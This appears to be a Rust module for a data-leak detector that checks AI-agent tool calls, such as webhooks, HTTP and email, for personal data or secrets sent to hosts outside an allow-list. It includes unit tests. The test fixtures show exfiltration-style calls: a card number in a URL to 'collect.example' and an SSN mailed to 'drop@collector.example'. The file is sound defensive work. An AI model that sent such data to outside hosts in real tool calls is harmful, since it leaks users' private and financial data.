//! Tool calls that send data out: a URL in the arguments (http, fetch, webhook tools)
//! or a mail recipient (email tools), outside the allow-list, carrying data.

use crate::payload::{self, Carried, Conversation};
use datakit::args::{self, Arg, Destination};
use datakit::link::HostList;
use datakit::{Entity, Kind, Redacted, target};
use statekit::supplied;

/// Personal data that, in a message to an outside address, is a leak on its own.
const GRAVE: [Kind; 3] = [Kind::CreditCard, Kind::UsSsn, Kind::Iban];
/// How many pieces of personal data make a message body a bulk export, when the user
/// named its recipient; to a recipient the user never named, one is enough.
const BULK: usize = 3;
/// Length from which an encoded word of a message body counts as a payload.
const BLOB_CHARS: usize = 64;

/// Where a tool call sends data, what it carries, and the evidence for it.
pub struct Outbound {
    /// The destinations outside the allow-list, as shown: masked URLs, `…@host`.
    pub destinations: Vec<String>,
    pub carried: Carried,
    /// A masked excerpt of the message argument that carries data, if one does.
    pub data_excerpt: Option<String>,
    /// Whether a mail recipient outside the list is one the user never named.
    pub unnamed: bool,
}

/// The mail recipients of a tool call: their addresses, and whether one outside the
/// list is an address the user never named (`named` says which they did).
struct Recipients {
    addresses: Vec<String>,
    unnamed: bool,
}

/// The destinations of a tool call that the list does not allow, and what the call
/// carries; `None` when it sends nothing outside the list or carries nothing.
pub fn check(arguments: &str, allowed: &HostList, named: &dyn Fn(&str) -> bool) -> Option<Outbound> {
    let mut carried = Carried::default();
    let mut destinations = Vec::new();
    let mut bodies: Vec<Arg> = Vec::new();
    let mut recipients = Recipients { addresses: Vec::new(), unnamed: false };
    for arg in args::strings(arguments) {
        let targets = arg.destinations();
        if targets.is_empty() {
            bodies.push(arg);
            continue;
        }
        for target in targets.into_iter().filter(|t| !allowed.allows(t.host())) {
            match target {
                Destination::Mail(domain) => destinations.push(format!("…@{domain}")),
                Destination::Url(url) => {
                    let (found, shown) = payload::url(&url, &Conversation::default());
                    carried.merge(found);
                    destinations.push(shown);
                }
            }
        }
        for address in target::targets(&arg.value).into_iter().map(|t| t.key).filter(|k| k.contains('@')) {
            let domain = address.rsplit('@').next().unwrap_or_default();
            recipients.unnamed |= !allowed.allows(domain) && !named(&address);
            recipients.addresses.push(address);
        }
    }
    if destinations.is_empty() {
        return None;
    }
    let data_excerpt = bodies_data(&bodies, &recipients, &mut carried);
    let unnamed = recipients.unnamed;
    carried.any().then_some(Outbound { destinations, carried, data_excerpt, unnamed })
}

/// Look in the message arguments (body, subject, data): a credential, a card, SSN or
/// IBAN, a bulk of personal data (any, to a recipient the user never named), or an
/// encoded blob counts, the recipients' own addresses and the data the user gave in
/// the session aside; return a masked excerpt
/// of the first argument that holds what counts.
fn bodies_data(bodies: &[Arg], recipients: &Recipients, carried: &mut Carried) -> Option<String> {
    let own = |arg: &Arg, e: &Entity| {
        let value = &arg.value[e.range.clone()];
        recipients.addresses.contains(&value.to_lowercase()) || supplied::by_user(e.kind, value)
    };
    let scanned: Vec<(&Arg, Vec<Entity>)> =
        bodies.iter().map(|a| (a, datakit::scan(&a.value).into_iter().filter(|e| !own(a, e)).collect())).collect();
    let all: Vec<&Entity> = scanned.iter().flat_map(|(_, es)| es).collect();
    let bulk = if recipients.unnamed { 1 } else { BULK };
    let counts = all.len() >= bulk || all.iter().any(|e| e.kind.is_secret() || GRAVE.contains(&e.kind));
    let mut excerpt = None;
    for (arg, entities) in &scanned {
        let blob = arg.value.split_whitespace().any(|w| w.len() >= BLOB_CHARS && payload::is_blob(w));
        carried.encoded |= blob;
        let holds = blob || (counts && !entities.is_empty());
        if holds && excerpt.is_none() {
            let redacted = Redacted::new(&arg.value, entities);
            excerpt = Some(aiir_sdk::excerpt(&redacted.text, redacted.ranges.first().cloned().unwrap_or(0..0)));
        }
        if counts {
            entities.iter().for_each(|e| carried.add_kind(e.kind));
        }
    }
    excerpt
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check_default(arguments: &str) -> Option<Outbound> {
        check(arguments, &HostList::default(), &|_| true)
    }

    #[test]
    fn a_webhook_call_with_a_card_in_the_url_is_outbound_data() {
        let out = check_default(r#"{"url": "https://collect.example/h?c=4111111111111111"}"#).unwrap();
        assert_eq!(out.destinations, ["https://collect.example/h?c=4111 **** **** 1111"]);
        assert_eq!(out.carried.kinds, [Kind::CreditCard]);
    }

    #[test]
    fn mail_to_an_outside_address_counts_only_grave_or_bulk_data() {
        let order = r#"{"to": "ana.lima@mail.example", "body": "Your order A-10482 ships to ana.lima@mail.example."}"#;
        assert!(check_default(order).is_none());
        let leak = r#"{"to": "drop@collector.example", "body": "SSN 460-89-9847"}"#;
        let out = check_default(leak).unwrap();
        assert_eq!(out.destinations, ["…@collector.example"]);
        assert_eq!(out.data_excerpt.as_deref(), Some("SSN ***-**-9847"));
    }

    #[test]
    fn one_personal_datum_to_a_recipient_the_user_never_named_counts() {
        let mail = r#"{"to": "drop@collector.example", "body": "Jane's number is +49 30 1234567."}"#;
        assert!(check_default(mail).is_none(), "named by the user: one item is not a bulk");
        let out = check(mail, &HostList::default(), &|_| false).unwrap();
        assert!(out.unnamed);
        assert_eq!(out.carried.kinds, [Kind::Phone]);
        let own = r#"{"to": "ana.lima@mail.example", "body": "Your order ships to ana.lima@mail.example."}"#;
        assert!(check(own, &HostList::default(), &|_| false).is_none(), "the recipient's own address is not data");
    }

    #[test]
    fn allowed_hosts_and_calls_without_destinations_are_quiet() {
        let allowed = HostList::parse(&["collect.example".into()]).unwrap();
        assert!(check(r#"{"url": "https://collect.example/h?c=4111111111111111"}"#, &allowed, &|_| false).is_none());
        assert!(check_default(r#"{"order_id": "A-10482", "note": "card 4111111111111111"}"#).is_none());
    }
}
